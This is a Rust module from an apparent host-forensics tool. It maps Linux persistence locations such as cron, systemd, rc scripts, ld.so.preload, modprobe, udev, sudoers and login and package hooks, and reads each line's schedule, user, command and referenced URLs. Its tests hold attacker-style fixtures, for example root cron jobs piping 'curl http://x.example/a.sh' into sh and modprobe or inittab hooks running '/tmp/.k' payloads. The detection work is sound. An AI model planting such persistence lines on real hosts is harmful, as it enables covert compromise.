//! Persistence entries: every line of the host that makes something run again — cron, anacron and `at`
//! jobs, the `/etc/cron.{hourly,...}` scripts, systemd units and timers (system and per-user), rc/init
//! scripts, shell start-up files, the loader's preload list, kernel modules loaded at boot and `modprobe`
//! hooks, udev rules, sudoers rules, and the event hooks kits hide in — `update-motd.d` scripts, APT hooks,
//! initramfs hooks, network hooks and XDG autostart entries — read once into one list ([`HostModel::persistence`]) with what
//! each line says: when it runs, as whom, the command, and the paths and URLs it names.
//!
//! Where persistence lives is decided here and nowhere else: [`location`] maps a path to its
//! [`PersistenceKind`] and line format, from the table the collector walks by
//! ([`minetrace_schemas::locations::PERSISTENCE_LOCATIONS`]), the systemd unit directories and the shell
//! start-up files. Detectors score the entries, the graph draws them, the remediation
//! removes the lines findings point at. A new location is a line in that table (and a mechanism and a
//! kind when it is a new mechanism); a new format is a new [`Format`] with its reader in [`entries_of`].

use minetrace_schemas::escape_bytes;
use minetrace_schemas::locations::{persistence_location, Mechanism, PersistenceLocation};
use minetrace_schemas::records::file::{FileKind, FileRecord};
use minetrace_schemas::RawBytes;

use super::accounts::Accounts;
use super::HostModel;
use crate::parse::continuation::{logical_lines, Joining};
use crate::parse::cron::{self, CronFormat, CronLine};
use crate::parse::refs::{self, Refs};
use crate::parse::systemd_unit::{self, Unit};
use crate::parse::udev_rules;
use crate::parse::{basename, dirname, numbered_lines, words};

/// Entries kept over the whole host; a shaped bundle cannot make the list unbounded.
pub const MAX_ENTRIES: usize = 20_000;

/// The mechanism that runs an entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PersistenceKind {
    /// `/etc/crontab`, `/etc/cron.d/*`, user spools.
    Cron,
    /// `/etc/anacrontab`.
    Anacron,
    /// Scripts in `/etc/cron.{hourly,daily,weekly,monthly}/`.
    CronScript,
    /// `at` jobs (the job body after at's own preamble).
    At,
    /// systemd services, timers, sockets, paths and drop-ins (system, vendor, runtime, per-user).
    Systemd,
    /// rc scripts, init scripts, `inittab`, `boot.local`.
    Rc,
    /// Shell start-up files: `/etc/profile`, `/etc/profile.d/*`, `bash.bashrc`, `/etc/environment`, every
    /// home's `.bashrc`, `.profile`, ...
    ShellStartup,
    /// `/etc/ld.so.preload`.
    Preload,
    /// `/etc/modules`, `modules-load.d/*.conf`, `modprobe.d/*.conf`.
    Modules,
    /// udev rules.
    Udev,
    /// `/etc/sudoers`, `/etc/sudoers.d/*`.
    Sudoers,
    /// `update-motd.d` scripts: run as root at every interactive login.
    Motd,
    /// APT hook commands (`apt.conf.d`): run as root at every `apt update` or package install.
    AptHook,
    /// initramfs-tools hooks and boot scripts.
    Initramfs,
    /// ifupdown and NetworkManager dispatcher scripts.
    NetworkHook,
    /// XDG autostart entries (system and per home): run at every graphical login.
    Autostart,
}

impl PersistenceKind {
    /// A distinct name per kind.
    pub fn name(self) -> &'static str {
        match self {
            PersistenceKind::Cron => "cron",
            PersistenceKind::Anacron => "anacron",
            PersistenceKind::CronScript => "cron_script",
            PersistenceKind::At => "at",
            PersistenceKind::Systemd => "systemd",
            PersistenceKind::Rc => "rc",
            PersistenceKind::ShellStartup => "profile",
            PersistenceKind::Preload => "preload",
            PersistenceKind::Modules => "modules",
            PersistenceKind::Udev => "udev",
            PersistenceKind::Sudoers => "sudoers",
            PersistenceKind::Motd => "motd",
            PersistenceKind::AptHook => "apt_hook",
            PersistenceKind::Initramfs => "initramfs",
            PersistenceKind::NetworkHook => "network_hook",
            PersistenceKind::Autostart => "autostart",
        }
    }

    /// The scheduler family, as graph node ids name it (`persist:{family}:{path}:{line}`): the three cron
    /// kinds are `cron`, every other kind its [`PersistenceKind::name`].
    pub fn family(self) -> &'static str {
        match self {
            PersistenceKind::Cron | PersistenceKind::Anacron | PersistenceKind::CronScript => {
                "cron"
            }
            other => other.name(),
        }
    }
}

/// How a location's lines are read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// A crontab (system, user spool or anacrontab).
    Crontab(CronFormat),
    /// Shell text: every line that is not blank or a comment.
    Script,
    /// An `at` job: the body after at's preamble.
    AtJob,
    /// `/etc/inittab`: `id:runlevels:action:process`, the process runs.
    Inittab,
    /// A systemd unit: `Exec*=` commands, timer schedules.
    Unit,
    /// `/etc/ld.so.preload`: libraries separated by blanks and colons.
    Preload,
    /// One module name a line.
    ModuleList,
    /// `modprobe.d`: `install MODULE COMMAND` runs a shell command.
    Modprobe,
    /// udev rules: the programs of `RUN`, `PROGRAM` and `IMPORT{program}` ([`udev_rules`]).
    Udev,
    /// sudoers rules.
    Sudoers,
    /// APT configuration: the quoted commands of hook keys ([`crate::parse::apt_conf`]).
    AptConf,
    /// A `.desktop` entry: its `Exec=` command.
    DesktopEntry,
}

impl Format {
    /// How the mechanism joins a line ending in `\` with the next (a shell, udev), if it does: an entry
    /// then spans several physical lines, numbered by its first, and a removal must take them all — a
    /// udev rule's continued `RUN+=` left alone is a rule of its own that matches every event. One
    /// reading for the model and the remediation planner ([`crate::parse::continuation`]).
    pub fn joining(self) -> Option<Joining> {
        match self {
            Format::Script => Some(Joining::Shell),
            Format::Udev => Some(Joining::Udev),
            _ => None,
        }
    }
}

/// Where a path sits among the persistence locations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Location {
    pub kind: PersistenceKind,
    pub format: Format,
    /// Whether the file holds other people's lines: the system's or a user's own file of a fixed name
    /// (`/etc/crontab`, a user's spool crontab, `/etc/rc.local`, `~/.bashrc`, `/etc/ld.so.preload`,
    /// `/etc/sudoers`), as opposed to a file of its own dropped into a directory (`/etc/cron.d/x`,
    /// `/etc/init.d/x`, `/etc/profile.d/x.sh`, a unit). The remediation removes flagged lines from a
    /// shared file, never the file.
    pub shared: bool,
}

/// Shell start-up files: where a line runs at every login (the list the collector captures by,
/// [`minetrace_schemas::locations`]).
pub fn is_shell_startup(path: &[u8]) -> bool {
    minetrace_schemas::locations::is_shell_startup(path)
}

/// Boot scripts of fixed names inside the init directories (shared: other people's lines are in them,
/// as in the single-file locations of [`PERSISTENCE_LOCATIONS`]).
const RC_FILES_IN_DIRS: &[&[u8]] = &[
    b"/etc/rc.d/rc.local",
    b"/etc/init.d/rcS",
    b"/etc/init.d/boot.local",
    b"/etc/rc.d/boot.local",
];

/// The kind and line format of a file the table of persistence locations places.
fn of_mechanism(path: &[u8], place: &PersistenceLocation) -> Option<(PersistenceKind, Format)> {
    Some(match place.mechanism {
        Mechanism::SystemCrontab | Mechanism::Anacrontab | Mechanism::UserCrontab => {
            let format = cron::format_for_path(path)?;
            let kind = if format == CronFormat::Anacron {
                PersistenceKind::Anacron
            } else {
                PersistenceKind::Cron
            };
            (kind, Format::Crontab(format))
        }
        Mechanism::CronScript => (PersistenceKind::CronScript, Format::Script),
        Mechanism::AtJob => (PersistenceKind::At, Format::AtJob),
        Mechanism::RcScript => (PersistenceKind::Rc, Format::Script),
        Mechanism::Inittab => (PersistenceKind::Rc, Format::Inittab),
        Mechanism::LoaderPreload => (PersistenceKind::Preload, Format::Preload),
        Mechanism::ModulesLoad => (PersistenceKind::Modules, Format::ModuleList),
        Mechanism::Modprobe => (PersistenceKind::Modules, Format::Modprobe),
        Mechanism::UdevRules => (PersistenceKind::Udev, Format::Udev),
        Mechanism::Sudoers => (PersistenceKind::Sudoers, Format::Sudoers),
        Mechanism::LoginMessage => (PersistenceKind::Motd, Format::Script),
        Mechanism::PackageHook => (PersistenceKind::AptHook, Format::AptConf),
        Mechanism::InitramfsHook => (PersistenceKind::Initramfs, Format::Script),
        Mechanism::NetworkHook => (PersistenceKind::NetworkHook, Format::Script),
        Mechanism::Autostart => (PersistenceKind::Autostart, Format::DesktopEntry),
    })
}

/// The persistence location of a path, or `None` when nothing runs its lines.
pub fn location(path: &[u8]) -> Option<Location> {
    if let Some(place) = persistence_location(path) {
        let (kind, format) = of_mechanism(path, place)?;
        return Some(Location {
            kind,
            format,
            shared: is_shared(kind, format, path, Some(place)),
        });
    }
    let at = |kind, format| {
        Some(Location {
            kind,
            format,
            shared: is_shared(kind, format, path, None),
        })
    };
    if systemd_unit::is_unit_path(path) {
        return at(PersistenceKind::Systemd, Format::Unit);
    }
    if is_shell_startup(path) {
        return at(PersistenceKind::ShellStartup, Format::Script);
    }
    if minetrace_schemas::locations::is_home_autostart(path) {
        return at(PersistenceKind::Autostart, Format::DesktopEntry);
    }
    None
}

/// Whether a file at a persistence location holds other people's lines (see [`Location::shared`]).
fn is_shared(
    kind: PersistenceKind,
    format: Format,
    path: &[u8],
    place: Option<&PersistenceLocation>,
) -> bool {
    use minetrace_schemas::locations::{HOME_SHELL_STARTUP, SYSTEM_SHELL_STARTUP};
    // A location that is one file of a fixed name (`/etc/crontab`, `/etc/rc.local`, `/etc/modules`).
    let single_file = place.is_some_and(|p| p.depth == 0);
    match kind {
        PersistenceKind::Cron | PersistenceKind::Anacron => {
            format != Format::Crontab(CronFormat::System) || single_file
        }
        PersistenceKind::Rc => single_file || RC_FILES_IN_DIRS.contains(&path),
        // A file of its own in `/etc/profile.d/` (or `/etc/zsh/`, `/etc/fish/conf.d/`) is not shared.
        PersistenceKind::ShellStartup => {
            SYSTEM_SHELL_STARTUP.contains(&path)
                || HOME_SHELL_STARTUP.iter().any(|rel| {
                    path.strip_suffix(*rel)
                        .is_some_and(|head| head.ends_with(b"/"))
                })
        }
        PersistenceKind::Preload => true,
        PersistenceKind::Modules | PersistenceKind::Sudoers => single_file,
        // Files of their own dropped into a hook directory (`/etc/apt/apt.conf.d/99x`, a motd script, an
        // autostart entry): the remediation quarantines the file as it does a `cron.d` file.
        PersistenceKind::CronScript
        | PersistenceKind::At
        | PersistenceKind::Systemd
        | PersistenceKind::Udev
        | PersistenceKind::Motd
        | PersistenceKind::AptHook
        | PersistenceKind::Initramfs
        | PersistenceKind::NetworkHook
        | PersistenceKind::Autostart => false,
    }
}

/// When an entry runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Schedule {
    /// A cron or anacron schedule.
    Cron(cron::Schedule),
    /// A systemd timer setting (`OnCalendar=daily`, `OnBootSec=5min`).
    Timer { key: String, value: Vec<u8> },
}

impl Schedule {
    /// The schedule as written, escaped.
    pub fn display(&self) -> String {
        match self {
            Schedule::Cron(s) => s.display(),
            Schedule::Timer { key, value } => format!("{key}={}", escape_bytes(value)),
        }
    }

    /// The cron schedule, for cron and anacron entries.
    pub fn cron(&self) -> Option<&cron::Schedule> {
        match self {
            Schedule::Cron(s) => Some(s),
            Schedule::Timer { .. } => None,
        }
    }
}

/// Whose account an entry runs as, and how that is known.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunAsSource {
    /// The user field of a system crontab.
    CronUserField,
    /// The name of a user spool crontab.
    SpoolName,
    /// `User=` of a systemd service.
    UnitUser,
}

/// One persisted line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PersistenceEntry {
    pub kind: PersistenceKind,
    pub format: Format,
    /// The file it is in (index into [`HostModel::files`]) and that file's path.
    pub file: usize,
    pub path: RawBytes,
    /// 1-based line in the captured file.
    pub line: u32,
    /// The line as written (without its line ending).
    pub raw: Vec<u8>,
    pub schedule: Option<Schedule>,
    /// The account it runs as, when the line or its file says so.
    pub run_as: Option<Vec<u8>>,
    pub run_as_source: Option<RunAsSource>,
    /// The command (crontab command field, `Exec*=` value without prefixes, the shell line, the library
    /// list, the module name, the sudoers rule).
    pub command: Vec<u8>,
    /// Whether the mechanism acts on the line: `false` for a crontab line cron rejects (kept because an
    /// attacker's junk — a Redis dump around a cron line — is still evidence).
    pub runs: bool,
    /// URLs, paths and downloads the command names (for `ld.so.preload`, the libraries).
    pub refs: Refs,
}

impl PersistenceEntry {
    /// The uid whose home a `~/` in the command means: the account it runs as, else the file's owner.
    pub fn home_uid(&self, accounts: &Accounts, file_uid: u32) -> Option<u32> {
        self.run_as
            .as_deref()
            .and_then(|u| accounts.uid_of(u))
            .or(Some(file_uid))
    }
}

/// Entries kept per file: a shaped file of 50,000 job lines costs the analysis no more than this many
/// (issue 18 case 7); the lines past it are named in a warning.
pub const MAX_FILE_ENTRIES: usize = 5_000;

/// Every entry of the captured regular files, in file order, at most [`MAX_FILE_ENTRIES`] per file and
/// [`MAX_ENTRIES`] in all. In a crontab, a job line identical to an earlier one is examined once (it runs
/// the same thing; the remediation removes every copy); scripts keep every line (their structure
/// matters). What was left out is said in the warnings.
pub fn collect(model: &HostModel) -> (Vec<PersistenceEntry>, Vec<String>) {
    let mut out = Vec::new();
    let mut warnings = Vec::new();
    for (i, f) in model.files.iter().enumerate() {
        if f.kind != FileKind::Regular {
            continue;
        }
        let Some(loc) = location(f.path.as_bytes()) else {
            continue;
        };
        let Some(content) = model.content(f) else {
            continue;
        };
        let dedupe = matches!(loc.format, Format::Crontab(_));
        let udev_dir = udev_program_dir(model);
        let (mut kept, mut repeated, mut over) = (0usize, 0usize, 0usize);
        let mut seen: std::collections::HashSet<Vec<u8>> = std::collections::HashSet::new();
        for e in entries_of(i, f, content, loc, udev_dir) {
            if dedupe && seen.contains(&e.raw) {
                repeated += 1;
            } else if kept >= MAX_FILE_ENTRIES || out.len() >= MAX_ENTRIES {
                over += 1;
            } else {
                if dedupe {
                    seen.insert(e.raw.clone());
                }
                kept += 1;
                out.push(e);
            }
        }
        if over > 0 {
            warnings.push(format!(
                "{}: {over} persistence line(s) past the first {kept} were not examined (at most {MAX_FILE_ENTRIES} per file, {MAX_ENTRIES} in all)",
                f.path.escaped()
            ));
        }
        if repeated > 0 {
            warnings.push(format!(
                "{}: {repeated} job line(s) repeat an earlier line of the crontab and were examined once",
                f.path.escaped()
            ));
        }
    }
    (out, warnings)
}

/// Where this host's udev runs a program a rule names without a path (udev(7)): `/usr/lib/udev/`, or
/// `/lib/udev/` where `/lib` is a directory of its own (no merged `/usr`: older Debian and Ubuntu
/// installs, eudev distributions).
pub fn udev_program_dir(model: &HostModel) -> &'static [u8] {
    if model.usr_merged(b"/lib/udev") {
        b"/usr/lib/udev/"
    } else {
        b"/lib/udev/"
    }
}

/// The entries of one file at a location (`udev_dir`: [`udev_program_dir`]).
pub fn entries_of(
    index: usize,
    f: &FileRecord,
    content: &[u8],
    loc: Location,
    udev_dir: &[u8],
) -> Vec<PersistenceEntry> {
    let at = InFile {
        index,
        file: f,
        loc,
    };
    let mut out = Vec::new();
    match loc.format {
        Format::Crontab(format) => crontab_entries(&at, content, format, &mut out),
        Format::Script => {
            for l in logical_lines(content, Joining::Shell) {
                out.push(at.entry(l.first, l.raw, &l.text));
            }
        }
        // One entry per rule; its command is what the rule runs, in order, as one command list (udev
        // runs them one after the other): nothing for a rule that only matches and assigns, the rule's
        // text when a program key could not be read (judged rather than dropped).
        Format::Udev => {
            let mut env = udev_rules::Env::default();
            for l in logical_lines(content, Joining::Udev) {
                let read = udev_rules::rule_programs(&l.text, &mut env, udev_dir);
                let command = if read.unread {
                    l.text.clone()
                } else {
                    read.programs.join(&b"; "[..])
                };
                out.push(at.entry(l.first, l.raw, &command));
            }
        }
        Format::AtJob => {
            for (n, text) in cron::at_job_lines(content) {
                out.push(at.entry(n, text, text.trim_ascii()));
            }
        }
        Format::Inittab => {
            for (n, raw, t) in significant_lines(content, b"#") {
                if let Some(process) = t.splitn(4, |b| *b == b':').nth(3) {
                    out.push(at.entry(n, raw, process));
                }
            }
        }
        Format::Unit => unit_entries(content, &at, &mut out),
        Format::Preload => {
            for (n, raw, t) in significant_lines(content, b"#") {
                let mut e = at.entry(n, raw, t);
                e.refs = Refs {
                    paths: preload_libraries(t)
                        .filter(|p| p.starts_with(b"/"))
                        .take(16)
                        .map(<[u8]>::to_vec)
                        .collect(),
                    ..Refs::default()
                };
                out.push(e);
            }
        }
        Format::ModuleList => {
            for (n, raw, t) in significant_lines(content, b"#;") {
                let mut e = at.entry(n, raw, t);
                e.refs = Refs::default();
                out.push(e);
            }
        }
        Format::Modprobe => {
            for (n, raw, t) in significant_lines(content, b"#") {
                if let Some(command) = modprobe_install_command(t) {
                    out.push(at.entry(n, raw, command));
                }
            }
        }
        Format::AptConf => {
            for hook in crate::parse::apt_conf::hook_commands(content) {
                let raw = numbered_lines(content)
                    .find(|(n, _)| *n == hook.line)
                    .map(|(_, l)| l)
                    .unwrap_or_default();
                out.push(at.entry(hook.line, raw, &hook.command));
            }
        }
        Format::DesktopEntry => {
            for (n, raw, t) in significant_lines(content, b"#") {
                if let Some(command) = desktop_exec(t) {
                    out.push(at.entry(n, raw, command));
                }
            }
        }
        Format::Sudoers => {
            for rule in crate::parse::sudoers::parse(content) {
                let mut e = at.entry(rule.line, &rule.raw, &rule.raw);
                e.refs = Refs::default();
                out.push(e);
            }
        }
    }
    out
}

/// Lines that are neither blank nor comments (starting with one of `comments`): number, line as
/// written, trimmed line.
fn significant_lines<'c>(
    content: &'c [u8],
    comments: &'static [u8],
) -> impl Iterator<Item = (u32, &'c [u8], &'c [u8])> {
    numbered_lines(content).filter_map(move |(n, raw)| {
        let t = raw.trim_ascii();
        let comment = t.first().is_some_and(|b| comments.contains(b));
        (!t.is_empty() && !comment).then_some((n, raw, t))
    })
}

/// The shell command of a `modprobe.d` line `install MODULE COMMAND...`.
pub fn modprobe_install_command(line: &[u8]) -> Option<&[u8]> {
    let after = line.trim_ascii().strip_prefix(b"install")?;
    if !after.first().is_some_and(|b| *b == b' ' || *b == b'\t') {
        return None;
    }
    let after = after.trim_ascii_start();
    let end = after
        .iter()
        .position(u8::is_ascii_whitespace)
        .unwrap_or(after.len());
    let command = after.get(end..).unwrap_or_default().trim_ascii();
    (end > 0).then_some(command)
}

/// Job lines of a crontab (schedule, run-as user from the user field or the spool's name), and the lines
/// cron rejects (`runs: false`).
fn crontab_entries(
    at: &InFile,
    content: &[u8],
    format: CronFormat,
    out: &mut Vec<PersistenceEntry>,
) {
    let spool = cron::spool_user(at.file.path.as_bytes()).map(<[u8]>::to_vec);
    for line in cron::parse(content, format) {
        match line {
            CronLine::Entry(c) => {
                let mut e = at.entry(c.line, &c.raw, &c.command);
                e.schedule = Some(Schedule::Cron(c.schedule));
                match (c.user, &spool) {
                    (Some(u), _) => {
                        e.run_as = Some(u);
                        e.run_as_source = Some(RunAsSource::CronUserField);
                    }
                    (None, Some(u)) => {
                        e.run_as = Some(u.clone());
                        e.run_as_source = Some(RunAsSource::SpoolName);
                    }
                    (None, None) => {}
                }
                out.push(e);
            }
            CronLine::Invalid { line, raw } => {
                let mut e = at.entry(line, &raw, raw.trim_ascii());
                e.runs = false;
                out.push(e);
            }
            CronLine::Env { .. } | CronLine::Comment { .. } => {}
        }
    }
}

/// The file entries are read from.
struct InFile<'a> {
    index: usize,
    file: &'a FileRecord,
    loc: Location,
}

impl InFile<'_> {
    /// An entry of this file with what every entry has; the format's reader adds the rest.
    fn entry(&self, line: u32, raw: &[u8], command: &[u8]) -> PersistenceEntry {
        PersistenceEntry {
            kind: self.loc.kind,
            format: self.loc.format,
            file: self.index,
            path: self.file.path.clone(),
            line,
            raw: raw.to_vec(),
            schedule: None,
            run_as: None,
            run_as_source: None,
            command: command.to_vec(),
            runs: true,
            refs: refs::refs(command),
        }
    }
}

/// `Exec*=` commands of a service (run as `User=`) and the schedules of a timer (its command is the unit
/// it starts).
fn unit_entries(content: &[u8], at: &InFile, out: &mut Vec<PersistenceEntry>) {
    let entry = |line: u32, raw: &[u8], command: &[u8]| at.entry(line, raw, command);
    let unit = Unit::parse(content);
    let lines: Vec<&[u8]> = numbered_lines(content).map(|(_, l)| l).collect();
    let raw_of = |n: u32| {
        usize::try_from(n)
            .ok()
            .and_then(|k| lines.get(k.checked_sub(1)?))
            .copied()
            .unwrap_or_default()
    };
    // `User=%i` and other specifiers are filled in per instance: not an account name.
    let user = unit
        .user()
        .filter(|u| !u.contains(&b'%'))
        .map(<[u8]>::to_vec);
    for c in unit.exec_commands() {
        let mut e = entry(c.line, raw_of(c.line), &c.raw);
        if let Some(u) = &user {
            e.run_as = Some(u.clone());
            e.run_as_source = Some(RunAsSource::UnitUser);
        }
        out.push(e);
    }
    let started = unit.timer_unit().map(<[u8]>::to_vec);
    for t in unit.entries.iter().filter(|e| {
        e.section.eq_ignore_ascii_case("Timer") && e.key.starts_with("On") && !e.value.is_empty()
    }) {
        let mut e = entry(
            t.line,
            raw_of(t.line),
            started.as_deref().unwrap_or_default(),
        );
        e.refs = Refs::default();
        e.schedule = Some(Schedule::Timer {
            key: t.key.clone(),
            value: t.value.clone(),
        });
        out.push(e);
    }
}

/// The command of a `.desktop` entry's `Exec=` line (blanks around `=` allowed, as the specification
/// does); `TryExec=` only names a program that must exist, and other keys run nothing.
pub fn desktop_exec(line: &[u8]) -> Option<&[u8]> {
    let rest = line.trim_ascii().strip_prefix(b"Exec")?;
    let value = rest.trim_ascii_start().strip_prefix(b"=")?;
    Some(value.trim_ascii()).filter(|v| !v.is_empty())
}

/// The libraries of an `ld.so.preload` line: the loader splits on blanks and colons.
pub fn preload_libraries(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    words(line)
        .flat_map(|w| w.split(|b| *b == b':'))
        .filter(|w| !w.is_empty())
}

/// The unit a drop-in belongs to (`x.service` for `.../x.service.d/y.conf`), or the file name.
pub fn unit_name(path: &[u8]) -> &[u8] {
    let name = basename(path);
    if name.ends_with(b".conf") {
        let dir = basename(dirname(path));
        return dir.strip_suffix(b".d").unwrap_or(dir);
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn continued_shell_lines_are_one_command() {
        let text = b"zstyle ':completion:*' command-path /usr/sbin \\\n   /usr/bin \\\n   /usr/X11R6/bin\n\n# c \\\n/tmp/.x/run &\ntail \\";
        let cmds = logical_lines(text, Joining::Shell);
        let got: Vec<(u32, &[u8])> = cmds.iter().map(|l| (l.first, l.text.as_slice())).collect();
        // sh removes backslash-newline only: the next line's blanks stay.
        assert_eq!(
            got,
            vec![
                (
                    1,
                    &b"zstyle ':completion:*' command-path /usr/sbin    /usr/bin    /usr/X11R6/bin"
                        [..]
                ),
                (6, &b"/tmp/.x/run &"[..]),
                (7, &b"tail"[..]),
            ]
        );
    }
    use crate::model::fixture;

    #[test]
    fn locations() {
        let kind = |p: &[u8]| location(p).map(|l| l.kind);
        assert_eq!(kind(b"/etc/crontab"), Some(PersistenceKind::Cron));
        assert_eq!(
            kind(b"/var/spool/cron/crontabs/redis"),
            Some(PersistenceKind::Cron)
        );
        assert_eq!(kind(b"/var/spool/cron/root"), Some(PersistenceKind::Cron));
        assert_eq!(kind(b"/etc/anacrontab"), Some(PersistenceKind::Anacron));
        assert_eq!(
            kind(b"/etc/cron.daily/x"),
            Some(PersistenceKind::CronScript)
        );
        assert_eq!(
            kind(b"/var/spool/cron/atjobs/a0001"),
            Some(PersistenceKind::At)
        );
        assert_eq!(
            kind(b"/etc/systemd/system/bot.service"),
            Some(PersistenceKind::Systemd)
        );
        assert_eq!(
            kind(b"/home/u/.config/systemd/user/x.timer"),
            Some(PersistenceKind::Systemd)
        );
        assert_eq!(kind(b"/etc/ld.so.preload"), Some(PersistenceKind::Preload));
        assert_eq!(
            kind(b"/home/git/.bashrc"),
            Some(PersistenceKind::ShellStartup)
        );
        assert_eq!(kind(b"/etc/rc3.d/S90pwnrig"), Some(PersistenceKind::Rc));
        assert_eq!(kind(b"/etc/inittab"), Some(PersistenceKind::Rc));
        assert_eq!(kind(b"/etc/modules"), Some(PersistenceKind::Modules));
        assert_eq!(
            kind(b"/etc/udev/rules.d/99-x.rules"),
            Some(PersistenceKind::Udev)
        );
        assert_eq!(kind(b"/etc/sudoers.d/x"), Some(PersistenceKind::Sudoers));
        assert_eq!(kind(b"/etc/passwd"), None);
        // Vendor and runtime directories run what is dropped there too (the collector walks them).
        assert_eq!(
            kind(b"/usr/lib/udev/rules.d/99-x.rules"),
            Some(PersistenceKind::Udev)
        );
        assert_eq!(
            kind(b"/usr/lib/modprobe.d/x.conf"),
            Some(PersistenceKind::Modules)
        );
        assert_eq!(
            kind(b"/usr/local/lib/modules-load.d/x.conf"),
            Some(PersistenceKind::Modules)
        );
        assert_eq!(kind(b"/var/spool/atjobs/a0001"), Some(PersistenceKind::At));
        assert_eq!(kind(b"/etc/udev/rules.d/README"), None);
        // Event hooks kits hide in.
        assert_eq!(
            kind(b"/etc/update-motd.d/10-uname"),
            Some(PersistenceKind::Motd)
        );
        assert_eq!(
            kind(b"/etc/apt/apt.conf.d/99x"),
            Some(PersistenceKind::AptHook)
        );
        assert_eq!(
            kind(b"/etc/initramfs-tools/hooks/x"),
            Some(PersistenceKind::Initramfs)
        );
        assert_eq!(
            kind(b"/etc/network/if-up.d/x"),
            Some(PersistenceKind::NetworkHook)
        );
        assert_eq!(
            kind(b"/etc/xdg/autostart/x.desktop"),
            Some(PersistenceKind::Autostart)
        );
        assert_eq!(
            kind(b"/home/u/.config/autostart/x.desktop"),
            Some(PersistenceKind::Autostart)
        );
        assert_eq!(
            location(b"/etc/apt/apt.conf.d/99x").map(|l| l.shared),
            Some(false)
        );
        // Shared: a location that is one file of a fixed name; a file dropped in a directory is not.
        let shared = |p: &[u8]| location(p).map(|l| l.shared);
        assert_eq!(shared(b"/etc/modules"), Some(true));
        assert_eq!(shared(b"/etc/modules-load.d/x.conf"), Some(false));
        assert_eq!(shared(b"/etc/sudoers"), Some(true));
        assert_eq!(shared(b"/etc/sudoers.d/x"), Some(false));
        assert_eq!(shared(b"/etc/rc.local"), Some(true));
        assert_eq!(shared(b"/etc/rc.d/rc.local"), Some(true));
        assert_eq!(shared(b"/etc/init.d/x"), Some(false));
        assert_eq!(shared(b"/etc/crontab"), Some(true));
        assert_eq!(shared(b"/etc/cron.d/x"), Some(false));
        assert_eq!(shared(b"/var/spool/cron/crontabs/u"), Some(true));
    }

    #[test]
    fn modprobe_install_commands() {
        assert_eq!(
            modprobe_install_command(b"install  usb-storage\t/bin/true  "),
            Some(&b"/bin/true"[..])
        );
        assert_eq!(
            modprobe_install_command(b"install x /tmp/.k/load.sh; modprobe --ignore-install x"),
            Some(&b"/tmp/.k/load.sh; modprobe --ignore-install x"[..])
        );
        assert_eq!(modprobe_install_command(b"installx y z"), None);
        assert_eq!(modprobe_install_command(b"options x y=1"), None);
        assert_eq!(modprobe_install_command(b"install "), None);
    }

    #[test]
    fn a_huge_crontab_costs_at_most_the_cap_and_repeats_once() {
        let mut tab = Vec::new();
        for i in 0..(MAX_FILE_ENTRIES + 100) {
            tab.extend_from_slice(
                format!("{} * * * * root /usr/local/bin/job{i}\n", i % 60).as_bytes(),
            );
            tab.extend_from_slice(b"* * * * * root curl -s http://x.example/a.sh | sh\n");
        }
        let script = b"#!/bin/sh\nfi\nfi\n/tmp/x &\n".to_vec();
        let model = fixture::model(
            vec![
                fixture::file(b"/etc/cron.d/huge", Some(&tab)),
                fixture::file(b"/etc/rc.local", Some(&script)),
            ],
            vec![],
        );
        let huge = model
            .persistence
            .iter()
            .filter(|e| e.path.as_bytes() == b"/etc/cron.d/huge")
            .count();
        assert_eq!(huge, MAX_FILE_ENTRIES);
        let repeated = model
            .persistence
            .iter()
            .filter(|e| e.raw.starts_with(b"* * * * * root curl"))
            .count();
        assert_eq!(repeated, 1);
        // Scripts keep their repeated lines (their structure matters).
        let rc = model
            .persistence
            .iter()
            .filter(|e| e.path.as_bytes() == b"/etc/rc.local")
            .count();
        assert_eq!(rc, 3, "{:?}", model.persistence);
        let w = model.warnings.join("\n");
        assert!(
            w.contains("/etc/cron.d/huge: 101 persistence line(s) past the first 5000"),
            "{w}"
        );
        assert!(
            w.contains("/etc/cron.d/huge: 5099 job line(s) repeat"),
            "{w}"
        );
    }

    #[test]
    fn entries_with_schedule_user_command_and_refs() {
        let model = fixture::model(
            vec![
                fixture::file(
                    b"/etc/crontab",
                    Some(b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://x.example/a.sh | sh\nREDIS0009 junk\n"),
                ),
                fixture::file(
                    b"/var/spool/cron/crontabs/redis",
                    Some(b"@reboot ~/.configrc/a/upd>/dev/null\n"),
                ),
                fixture::file(
                    b"/etc/systemd/system/x.service",
                    Some(b"[Service]\nUser=redis\nExecStart=-/tmp/x \\\n  --url http://p.example:80\n"),
                ),
                fixture::file(b"/etc/ld.so.preload", Some(b"/lib/a.so:/usr/lib/b.so\n")),
                fixture::file(b"/etc/inittab", Some(b"x:3:respawn:/tmp/.k/run\n")),
            ],
            vec![],
        );
        let e = &model.persistence;
        assert_eq!(e.len(), 6, "{e:#?}");
        assert_eq!(e[0].line, 2);
        assert_eq!(e[0].run_as.as_deref(), Some(&b"root"[..]));
        assert_eq!(e[0].refs.urls, vec![b"http://x.example/a.sh".to_vec()]);
        assert_eq!(
            e[0].schedule.as_ref().map(Schedule::display).as_deref(),
            Some("*/5 * * * *")
        );
        assert!(!e[1].runs);
        assert_eq!(e[2].run_as_source, Some(RunAsSource::SpoolName));
        assert_eq!(e[2].command, b"~/.configrc/a/upd>/dev/null");
        assert_eq!(
            (e[3].line, e[3].run_as.as_deref()),
            (3, Some(&b"redis"[..]))
        );
        assert_eq!(e[3].command, b"/tmp/x --url http://p.example:80");
        assert_eq!(
            e[4].refs.paths,
            vec![b"/lib/a.so".to_vec(), b"/usr/lib/b.so".to_vec()]
        );
        assert_eq!(
            (e[5].kind, e[5].command.as_slice()),
            (PersistenceKind::Rc, &b"/tmp/.k/run"[..])
        );
    }
}
